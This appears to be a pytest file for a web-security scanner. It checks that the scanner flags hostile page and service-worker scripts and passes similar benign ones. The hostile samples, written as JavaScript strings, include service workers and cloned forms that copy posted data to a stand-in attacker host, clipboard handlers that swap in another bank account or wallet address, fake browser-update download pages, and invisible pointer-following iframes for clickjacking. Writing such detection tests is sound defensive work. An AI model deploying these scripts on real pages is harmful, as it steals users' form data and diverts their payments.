"""What scripts do, however it is written: each act in several forms, beside honest ones alike."""

from __future__ import annotations

import pytest

from cyberscan.model.verdict import Outcome
from tests.checks.content.reading import b64
from tests.checks.content.scripting import EVIL, in_file, on_page

WORKERS = [
    (
        "self.addEventListener('fetch',e=>{const q=e.request;if(q.method==='POST')fetch(q.clone(),"
        f"{{a:1}}).then(r=>q.clone().text().then(b=>fetch('{EVIL}',{{method:'POST',body:b}})))}})"
    ),
    (
        "self.addEventListener('fetch',e=>{const r=e.request;if(r.method==='POST'"
        "){const c=r.clone();"
        f"c.text().then(b=>fetch('{EVIL}/i',{{method:'POST',mode:'no-cors',body:b}}))}}}});"
    ),
    (
        "addEventListener('fetch',function(e){if(e.request.method=='POST'){e.requ"
        "est.clone().formData()"
        f".then(function(f){{fetch('{EVIL}/t',{{method:'POST',body:f}})}})}}}})"
    ),
    (
        "self.onfetch=e=>{let q=e.request;if('POST'==='POST'&&q.method==='POST'){"
        "q.clone().json().then("
        f"j=>fetch('{EVIL}/j',{{method:'PUT',body:JSON.stringify(j)}}))}}}};"
    ),
    (
        "self.addEventListener('fetch',async e=>{if(e.request.method!=='POST')return;const s=await "
        "e.request.clone().text();fetch('//jahat.example/z',{method:'POST',body:btoa(s)})})"
    ),
    (
        "self.addEventListener('fetch',e=>{const k=e.request.clone();k.formData().then(d=>fetch("
        f"'{EVIL}/c',{{method:'POST',body:new URLSearchParams(d)}}))}})"
    ),
    (
        "self.addEventListener('fetch',e=>{const q=e.request;if(q.method==='POST'&&q.url.includes("
        f"'/masuk')){{q.clone().text().then(b=>fetch('{EVIL}/i',{{method:'POST',body:b}}))}}}})"
    ),
    (
        "self.addEventListener('fetch',e=>{const q=e.request;e.respondWith(fetch(q).catch(tunda));"
        f"if(q.method==='POST')q.clone().text().then(b=>fetch('{EVIL}',{{method:'POST',body:b}}))}})"
    ),
]
COPY = "q.clone().text().then(b=>fetch('https://api.vendor.example/q',{method:'POST',body:b}))"
HEARD = "self.addEventListener('fetch',e=>{const q=e.request,u=new URL(q.url);"
WANTED = [
    "u.hostname.endsWith('vendor.example')",
    "u.host==='api.vendor.example'",
    "q.url.startsWith('https://api.vendor.example/')",
    "q.url.indexOf('vendor.example')>-1",
    "q.url.indexOf('vendor.example')>=0",
    "/vendor\\.example/.test(q.url)",
]
UNWANTED = [
    "u.hostname!=='api.vendor.example'",
    "!q.url.startsWith('https://api.vendor.example/')",
    "!u.host.includes('vendor.example')",
    "q.url.indexOf('vendor.example')<0",
    "q.url.indexOf('vendor.example')===-1",
    "!/vendor\\.example/.test(q.url)",
]
HONEST_WORKERS = [
    # Answers are kept for when there is no connection.
    (
        "self.addEventListener('fetch',e=>{e.respondWith(fetch(e.request).then(r="
        ">{const c=r.clone();"
        "caches.open('v1').then(k=>k.put(e.request,c));return r}))})"
    ),
    # What could not be posted is posted later, to the site.
    (
        "self.addEventListener('fetch',e=>{if(e.request.method==='POST'){e.respon"
        "dWith(fetch(e.request."
        "clone()).catch(async()=>{antre(await e.request.clone().text());return ne"
        "w Response('')}))}})"
    ),
    (
        "self.addEventListener('fetch',e=>{if(e.request.method==='POST'){e.reques"
        "t.clone().text().then("
        "b=>fetch('/antrean',{method:'POST',body:b}))}})"
    ),
    # Times are measured.
    (
        "self.addEventListener('fetch',e=>{const t=Date.now();e.respondWith(fetch"
        "(e.request).then(r=>{"
        "const c=r.clone();fetch('https://ukur.example/e',{method:'POST',body:Str"
        "ing(Date.now()-t)});"
        "return c}))})"
    ),
    # What a vendor is posted is posted to it again, however the worker tells it.
    *(
        "self.addEventListener('fetch',e=>{const q=e.request,u=new URL(q.url);if(q.method==='POST'"
        f"&&{test}){{q.clone().text().then(b=>fetch('https://vendor.example/antre',{{method:'POST',"
        "body:b}))}})"
        for test in (
            "q.url.startsWith('https://vendor.example/')",
            "u.hostname==='vendor.example'",
            "/vendor\\.example/.test(q.url)",
        )
    ),
    (
        "const V='https://vendor.example';self.addEventListener('fetch',e=>{const q=e.request;"
        "if(q.method!=='POST'||new URL(q.url).origin!==V)return;q.clone().text().then(body=>"
        "fetch(V+'/ulang',{method:'POST',body}))})"
    ),
    # What could not be posted is left with a vendor.
    (
        "self.addEventListener('fetch',e=>{if(e.request.method==='POST'){const c=e.request.clone();"
        "e.respondWith(fetch(e.request).then(r=>r,()=>c.text().then(b=>fetch('https://vendor.example"
        "/q',{method:'POST',body:b}))))}})"
    ),
    (
        "self.addEventListener('fetch',e=>{if(e.request.method==='POST'){const c=e.request.clone();"
        "e.respondWith(fetch(e.request).catch(async()=>fetch('https://vendor.example/q',{method:"
        "'POST',body:await c.text()})))}})"
    ),
    (
        "self.addEventListener('fetch',e=>{if(e.request.method==='POST')e.respondWith((async()=>{"
        "const c=e.request.clone();try{return await fetch(e.request)}catch(x){const b=await "
        "c.text();return fetch('https://vendor.example/q',{method:'POST',body:b})}})())})"
    ),
    "self.addEventListener('push',e=>{self.registration.showNotification(e.data.text())})",
]


@pytest.mark.parametrize("source", WORKERS)
def test_workers_that_copy_what_is_posted(source: str) -> None:
    assert in_file(source, kind="worker").message == "tap"


@pytest.mark.parametrize("source", HONEST_WORKERS)
def test_workers_that_keep_answers(source: str) -> None:
    assert in_file(source, kind="worker").outcome is Outcome.PASS


DOUBLES = [
    (
        "$('form').on('submit',function(){var s=$(this).clone(true);s.attr({action:'"
        f"{EVIL}/t.php',target:n}}).appendTo('body');s[0].submit()}})"
    ),
    (
        "f.addEventListener('submit',function(){var k=f.cloneNode(true);k.action='"
        f"{EVIL}/t';k.target='q';k.style.display='none';document.body.appendChild(k);k.submit()}})"
    ),
    (
        "$('#lapor').bind('submit',function(){var k=$(this).clone();k.attr('action',['https:','',"
        "'jahat.example','x'].join('/'));k.attr('target','bingkai');$('body').app"
        "end(k);k.submit()})"
    ),
    (
        "document.forms[0].addEventListener('submit',e=>{const k=e.target.cloneNo"
        "de(!0);k.setAttribute("
        f"'action','{EVIL}/k');k.setAttribute('target','z');document.body.append(k);k.submit()}})"
    ),
    (
        f"$(document).on('submit','form',function(){{$(this).clone().attr({{'actio"
        f"n':atob('{b64(EVIL)}'"
        "),'target':'f9'}).hide().appendTo(document.body).submit()})"
    ),
]
HONEST_DOUBLES = [
    # A report that is printed by the site itself, in a window of its own.
    (
        "f.addEventListener('submit',function(){var k=f.cloneNode(true);k.action='/cetak';"
        "k.target='_blank';document.body.appendChild(k);k.submit()})"
    ),
    # A row of a table of children that is added to.
    (
        "$('#tambah').click(function(){var b=$('.baris:first').clone();b.find('input').val('');"
        "$('#anak').append(b)});$('form').on('submit',cek)"
    ),
    # The cashier of a bank, which the visitor sees.
    (
        "b.onclick=function(){var f=document.createElement('form');f.action='http"
        "s://bayar.example/p';"
        "f.method='post';document.body.appendChild(f);f.submit()}"
    ),
    (
        "const t=document.querySelector('template').content.cloneNode(true);daftar.append(t);"
        "f.action='https://survei.example/isi';"
    ),
    "$('form').on('submit',function(){$(this).find('button').clone().text('Mengirim…')})",
]


@pytest.mark.parametrize("source", DOUBLES)
def test_forms_that_are_sent_elsewhere_as_well(source: str) -> None:
    assert in_file(source).message == "tap"


@pytest.mark.parametrize("source", HONEST_DOUBLES)
def test_forms_that_are_cloned_for_other_reasons(source: str) -> None:
    assert in_file(source).outcome is Outcome.PASS


SWAPS = [
    (
        "document.addEventListener('copy',function(e){var s=String(getSelection());e.clipboardData."
        "setData('text/plain',s.replace(/\\d{10}/g,'7299018840'));e.preventDefault()})"
    ),
    "document.oncopy=e=>{e.clipboardData.setData('text','7299 0188 40');e.preventDefault()}",
    (
        "var r={'a':'1'};function g(s){return s.replace(/\\b(\\d{4})\\d{6}\\b/g,f"
        "unction(a,p){return r[p]||"
        "'0099120774'})}addEventListener('copy',function(e){e.clipboardData.setDa"
        "ta('text/plain',g(x))})"
    ),
    (
        "$(document).on('copy',function(e){e.originalEvent.clipboardData.setData("
        "'text/plain',t.replace("
        "/0x[a-fA-F0-9]{40}/,'0x00112233445566778899aabbccddeeff00112233'))})"
    ),
    (
        "document.body.addEventListener('cut',e=>{e.clipboardData.setData('text/plain',k.replace("
        "/[0-9]{8,16}/g,()=>'88081147.0093'))})"
    ),
]
HONEST_COPIES = [
    # A button that copies the office's own account.
    (
        "function salin(){document.addEventListener('copy',function(e){e.clipboardData.setData("
        "'text/plain','0012345678')});document.execCommand('copy')}"
    ),
    # A line with the source.
    (
        "document.addEventListener('copy',function(e){e.clipboardData.setData('te"
        "xt/plain',getSelection()"
        "+'\\n\\nSumber: '+location.href);e.preventDefault()})"
    ),
    # Nothing may be copied.
    (
        "document.addEventListener('copy',function(e){e.clipboardData.setData('text/plain','');"
        "e.preventDefault()})"
    ),
    # Groups of digits are joined; the number has its own button.
    (
        "var rek='7113005521';document.addEventListener('copy',e=>{e.clipboardDat"
        "a.setData('text/plain',"
        "String(getSelection()).replace(/(\\d{4})\\s/g,'$1'))});b.onclick=()=>navigator.clipboard."
        "writeText('7113005521')"
    ),
    (
        "document.addEventListener('copy',e=>{e.clipboardData.setData('text/plain"
        "','Dinas Sosial, telepon"
        " 0351 462345')})"
    ),
    "b.onclick=function(){navigator.clipboard.writeText('7113005521');b.textContent='Tersalin'}",
]


@pytest.mark.parametrize("source", SWAPS)
def test_another_account_on_the_clipboard(source: str) -> None:
    assert on_page(source).message == "swap"
    assert in_file(source).message == "swap"


@pytest.mark.parametrize("source", HONEST_COPIES)
def test_what_honest_pages_do_to_copies(source: str) -> None:
    assert on_page(source).outcome is Outcome.PASS


def offered(text: str, link: str) -> str:
    return f"document.body.innerHTML='<h1>{text}</h1><a {link}>OK</a>'"


OFFERS = [
    ("Chrome Anda versi lama. Perbarui sekarang.", f'href="{EVIL}/Chrome.zip"'),
    ("Your browser is out of date", f'href="{EVIL}/get?h=1" download="Update.zip"'),
    ("Pembaruan Firefox diperlukan", f'download href="{EVIL}/u"'),
    ("Votre navigateur n’est pas à jour : mise à jour", f'href="{EVIL}/maj.exe"'),
    ("浏览器需要更新", f'href="{EVIL}/u.msi?x=1"'),
]
HONEST_OFFERS = [
    ("Peramban Anda usang. Perbarui peramban.", 'href="https://browsehappy.com/"'),
    ("Perbarui Chrome di sini", 'href="https://www.google.com/chrome/"'),
    ("Ujian dibuka dengan aplikasi ini", 'href="https://ujian.example/ujian.apk"'),
    ("Pembaruan aplikasi e-Surat versi baru", 'href="https://surat.example/setup.exe"'),
    ("Unduh panduan peramban versi terbaru", 'href="/unduh/panduan.zip"'),
    ("Perbarui Exam Browser versi baru", 'href="https://sekolah.example/exambro.apk"'),
    ("Browser ujian CBT: pembaruan 2.1", 'href="https://sekolah.example/cbt.zip" download'),
]


@pytest.mark.parametrize(("text", "link"), OFFERS)
def test_false_updates_of_the_browser(text: str, link: str) -> None:
    assert on_page(offered(text, link)).message == "offer"
    assert in_file(offered(text, link)).message == "offer"


@pytest.mark.parametrize(("text", "link"), HONEST_OFFERS)
def test_honest_words_about_browsers(text: str, link: str) -> None:
    assert on_page(offered(text, link)).outcome is Outcome.PASS


FRAME = f"var b=document.createElement('iframe');b.src='{EVIL}/l';"
MOVE = (
    "document.addEventListener('mousemove',function(e){{"
    "b.style.left=(e.{}-30)+'px';b.style.top=e.{}+'px'}});"
)
UNDER = [
    (
        f"{FRAME}b.setAttribute('style','position:absolute;opacity:.01;z-index:9999')"
        f";{MOVE.format('pageX', 'pageY')}"
    ),
    (
        f"{FRAME}b.style.cssText='opacity: 0; position:fixed; z-index: 2147483647'"
        f";{MOVE.format('clientX', 'clientY')}"
    ),
    f"{FRAME}b.style='z-index:999;opacity:0.001;position:absolute';{MOVE.format('pageX', 'pageY')}",
    (
        f"{FRAME}b.style.cssText='opacity:0.1;z-index:500';onmousemove=e=>{{b.style.le"
        f"ft=e.clientX+'px'}}"
    ),
    f"{FRAME}b.style.cssText='opacity:0;z-index:500';{MOVE.format('clientX', 'pageY')}",
]
HONEST_UNDER = [
    # An ornament that follows the pointer, beside a frame.
    (
        f"{FRAME}var k=document.createElement('div');k.style.cssText='opacity:.1;z-index:99';"
        "document.onmousemove=e=>{k.style.left=e.pageX+'px'}"
    ),
    # A window of a chat that is dragged.
    (
        f"{FRAME}b.style.cssText='position:fixed;z-index:999';t.onmousemove=e=>{{b.sty"
        f"le.left=e.clientX+'px'}}"
    ),
    # A frame that fades in.
    f"{FRAME}b.style.cssText='opacity:0;z-index:5000;transition:opacity 1s'",
    (
        "var b=document.createElement('iframe');b.src='/peta';b.style.cssText='op"
        "acity:0;z-index:999';"
        f"{MOVE.format('pageX', 'pageY')}"
    ),
    (
        "var b=document.createElement('iframe');b.src='https://www.youtube.com/embed/a';"
        f"b.style.cssText='opacity:0;z-index:999';{MOVE.format('pageX', 'pageY')}"
    ),
]


@pytest.mark.parametrize("source", UNDER)
def test_frames_unseen_under_the_pointer(source: str) -> None:
    assert in_file(source).message == "cover"


@pytest.mark.parametrize("source", HONEST_UNDER)
def test_frames_and_what_follows_the_pointer(source: str) -> None:
    assert in_file(source).outcome is Outcome.PASS


@pytest.mark.parametrize("test", WANTED)
def test_a_worker_that_sends_again_what_its_vendor_is_posted(test: str) -> None:
    source = f"{HEARD}if(q.method==='POST'&&{test}){{{COPY}}}}})"
    assert in_file(source, kind="worker").outcome is Outcome.PASS
    # Whoever passes by that host copies all else.
    source = f"{HEARD}if(q.method!=='POST'||{test})return;{COPY}}})"
    assert in_file(source, kind="worker").message == "tap"


@pytest.mark.parametrize("test", UNWANTED)
def test_a_worker_that_copies_all_that_is_not_posted_to_its_own_host(test: str) -> None:
    for act in (f"{{{COPY}}}", f"{{return {COPY}}}"):
        source = f"{HEARD}if(q.method==='POST'&&{test}){act}}})"
        assert in_file(source, kind="worker").message == "tap"
    source = f"{HEARD}if(q.method!=='POST'||{test})return;{COPY}}})"
    assert in_file(source, kind="worker").outcome is Outcome.PASS
